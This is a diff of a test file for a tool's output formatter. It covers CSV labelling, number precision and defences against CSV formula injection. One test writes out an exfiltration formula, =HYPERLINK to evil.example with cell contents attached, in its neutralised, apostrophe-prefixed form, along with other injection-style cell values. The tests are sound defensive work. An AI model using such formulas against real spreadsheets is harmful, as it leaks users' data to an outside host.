@@ -88,8 +88,15 @@ describe("output formats", () => {
     expect(formatResults("table", results())).toBe(expected("mixed.table.txt"));
   });
 
-  it("csv: CRLF records, a blank line between results, messages as # lines", () => {
+  it("csv: CRLF records, each table labelled by its formula, a blank line between results, messages as # lines", () => {
     expect(formatResults("csv", results())).toBe(expected("mixed.csv"));
+  });
+
+  it("csv: figures as the table shows them, without float noise; json keeps every digit", () => {
+    const grid: Grid = [[n(0.1 + 0.2), n(1205895.5901512166), n(-0.128605123), n(42), n(1e21)]];
+    const csv = formatResults("csv", [{ formula: "=X()", grid }]).split("\r\n")[1];
+    expect(csv).toBe("0.3,1205895.590151,-0.128605,42,1e+21");
+    expect(formatResults("json", [{ formula: "=X()", grid }])).toContain("0.30000000000000004");
   });
 
   it("table keeps multi-line text on one line so the columns stay aligned", () => {
@@ -112,15 +119,17 @@ describe("output that cannot attack its reader", () => {
       ],
     ];
     const lines = formatResults("csv", [{ formula: "=X()", grid }]).split("\r\n");
-    expect(lines[0]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",'+1,'-2+3,'@SUM(A1)`);
-    expect(lines[1]).toBe(`'\t=1,"'\r=1",a=b,-5`);
-    expect(lines[2]).toBe("'-,2024-01-01,#N/A,Aave");
+    // The label line starts with "#": inert text too.
+    expect(lines[0]).toBe("# =X()");
+    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",'+1,'-2+3,'@SUM(A1)`);
+    expect(lines[2]).toBe(`'\t=1,"'\r=1",a=b,-5`);
+    expect(lines[3]).toBe("'-,2024-01-01,#N/A,Aave");
   });
 
   it("csv: a message line is one field, so its commas cannot start a formula field", () => {
     const grid: Grid = [[errorCell("#N/A", "unknown project x,=1+1")]];
     expect(formatResults("csv", [{ formula: "=X()", grid }])).toBe(
-      '#N/A\r\n"# #N/A unknown project x,=1+1"\r\n'
+      '# =X()\r\n#N/A\r\n"# #N/A unknown project x,=1+1"\r\n'
     );
   });
 
